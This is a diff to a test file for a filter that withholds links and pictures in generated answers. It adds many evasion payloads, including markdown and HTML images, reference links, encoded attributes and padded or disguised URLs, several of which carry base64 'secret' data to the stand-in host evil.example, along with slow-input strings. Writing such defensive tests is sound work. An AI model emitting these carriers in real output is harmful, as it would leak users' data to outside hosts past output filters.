@@ -1,10 +1,10 @@
 import { expect } from "chai";
 import fc from "fast-check";
-import { segmentGuard } from "../server/guards/detector.ts";
-import { carryingLinks, waitForLink } from "../server/guards/links.ts";
+import { linksInAnswer } from "../server/guards/links.ts";
+import { passage } from "../server/pipeline/passage.ts";
 import { cut, throughGate } from "./support/gate.ts";
 
-const guard = segmentGuard("links", "links", carryingLinks({ action: "mask", hosts: ["wiki.example", "*.bank.example"] }), waitForLink);
+const guard = linksInAnswer({ action: "mask", hosts: ["wiki.example", "*.bank.example"] });
 const host = "evil.example";
 const data = "c2VjcmV0".repeat(10);
 
@@ -22,9 +22,17 @@ const carriers = [
   `![a\nb](https://${host}/a.png)`,
   `![a\\]](https://${host}/a.png)`,
   `![x](\n\n\nhttps://${host}/a.png\n"title")`,
-  `![x][1]`,
-  `![x][]`,
-  `![1]`,
+  `![\`[\`](https://${host}/a.png)`,
+  `![\`](a.png)\`](https://${host}/a.png)`,
+  `![<b title="](a.png)">](https://${host}/a.png)`,
+  `![${"x".repeat(1_100)}](https://${host}/a.png)`,
+  `![x](https://wiki.example\\)@${host}/a.png)`,
+  `![x](https://(.bank.example)@${host}/a.png)`,
+  `![x](https://(.wiki.example)/a)`.replace("wiki.example", host),
+  `![a][x]\n\n[x]: https://${host}/a.png`,
+  `![x][]\n\n[X]: //${host}/a.png`,
+  `![1]\n\n[1]: <https://${host}/a.png>`,
+  `![x](a b)\n\n[x]: https://${host}/a.png`,
   `<img src="https://${host}/a.png">`,
   `<img src=//${host}/a.png>`,
   `<img srcset="/a.png 1x, //${host}/b.png 2x">`,
@@ -33,6 +41,12 @@ const carriers = [
   `<IMG SRC='https&#58;//${host}/a.png'>`,
   `<video poster="//${host}/a.png">`,
   `<body background="https://${host}/a.png">`,
+  `<img alt="src=" src="https://${host}/a.png">`,
+  `<img src="/\t/${host}/a.png">`,
+  `<img src${" ".repeat(20)}=${" ".repeat(20)}"https://${host}/a.png">`,
+  `<img srcset="a.png&#32;1x&#44;&#32;//${host}/b.png&#32;2x">`,
+  `<img src="/&#00000000047;${host}/a.png">`,
+  `<tr background="https://${host}/a.png">`,
   `<source src="https://${host}/a.mp4">`,
   `https://${host}/?q=${data}`,
   `[x](//${host}/?q=${data})`,
@@ -40,6 +54,14 @@ const carriers = [
   `[x](mailto:a@${host}?body=${data})`,
   `https://${host}${"/secretsecret".repeat(20)}`,
   `https://user:pass@${host}/`,
+  `[x](https://${host}/()?q=${data})`,
+  `[x](https://${host}/\\)?q=${data})`,
+  `[x](<https://${host}/a b?q=${data}>)`,
+  `[c][2]\n\n[2]: //${host}/?q=${data}`,
+  `https://${host}/'?q=${data}`,
+  `www.${host}/?q=${data}`,
+  `<a href="//${host}/?q=${data}">x</a>`,
+  `<a href="https:\\\\${host}/?q=${data}">x</a>`,
 ];
 
 const harmless = [
@@ -49,19 +71,30 @@ const harmless = [
   "wow! [x](y) and a[0] ![",
   "<table><td>1</td></table> 1 < 2 <b>bold</b>",
   "if (!a[0]) return; b = !c[d];",
+  'let v = vec![1, 2, 3]; println!["a"]; match![1].trim(); if (![1, 2].includes(x)) {}',
+  "Great![1] See [2].\n\n[2]: https://en.wikipedia.example/wiki/Heron\n",
+  "![a](heron.png) and [more](https://en.wikipedia.example/wiki/Heron) `![x]`.",
+  '{"source":"https://en.wikipedia.example/wiki/Heron","title":"Heron"}',
 ];
 
 describe("links and pictures in an answer", () => {
   for (const carrier of carriers)
     it(`lets no ${JSON.stringify(carrier).slice(0, 60)} out`, async () => {
-      for (const text of [carrier, `so ${carrier} it is`, `so ${carrier}\n\n[1]: https://${host}/a.png\n`]) {
+      for (const text of [carrier, `so ${carrier} it is`]) {
         for (const lengths of [[1], [3], [7, 2], [400]]) {
           const out = (await throughGate(cut(text, lengths), [guard])).left.join("");
           expect(out, out).to.match(/\[(?:picture|link) withheld\]/u);
-          expect(out.replace(`[1]: https://${host}/a.png`, ""), out).to.not.include(host);
+          expect(out, out).to.not.include(host);
         }
       }
     });
+
+  it("withholds a picture whose address has left before", async () => {
+    for (const lengths of [[1], [7, 2], [400]]) {
+      const out = (await throughGate(cut(`[x]: https://${host}/a.png\n\nSo ![x] it is, and ![A][X].`, lengths), [guard])).left.join("");
+      expect(out).to.match(/So \[picture withheld\] it is, and \[picture withheld\]\.$/u);
+    }
+  });
 
   it("leaves alone what carries nothing, however it is cut", async () => {
     for (const text of harmless)
@@ -69,14 +102,28 @@ describe("links and pictures in an answer", () => {
         expect((await throughGate(cut(text, lengths), [guard])).left.join("")).to.equal(text);
   });
 
-  it("takes no longer for text that is made to be slow", () => {
-    const detect = carryingLinks({ action: "mask", hosts: [] });
-    for (const piece of ["![", "![[", "<img ", '<img "', "](", "&#x", "![x](", "http://a", "!["].map((one) =>
-      one.repeat(16_000 / one.length),
-    )) {
+  it("takes no longer for text that is made to be slow", async () => {
+    for (const piece of [
+      "![",
+      "![[",
+      "<img ",
+      '<img "',
+      "](",
+      "&#x",
+      "![x](",
+      "http://a",
+      "![",
+      "[a]: b ",
+      "![a][b] [b]: c ",
+      "<a ",
+      '<a "',
+      "www.",
+      "]:",
+      "([",
+    ].map((one) => one.repeat(16_000 / one.length))) {
       const begunMs = performance.now();
-      detect(piece);
-      waitForLink(piece);
+      guard.wait(piece);
+      await guard.inspect({ released: "", before: "", passage: passage(piece), ahead: "", last: true }, { caller: "app" });
       expect(performance.now() - begunMs, piece.slice(0, 8)).to.be.below(500);
     }
   });
